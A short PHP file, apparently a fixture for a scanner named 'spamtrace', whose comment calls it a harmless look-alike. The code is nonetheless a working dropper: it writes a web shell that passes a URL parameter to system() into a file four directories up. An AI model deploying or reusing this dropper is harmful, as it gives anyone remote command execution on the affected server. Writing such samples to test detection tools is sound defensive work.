<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// A dropper that plants a page whose PHP runs what the visitor sends, written from the
// script's own literal far up the tree.
$page = '<title>owned</title>' . "\n" . '<?php system($_GET["c"]); ?>';
$h = fopen('../../../../note.php', 'w');
fwrite($h, $page);
fclose($h);
echo 'done';
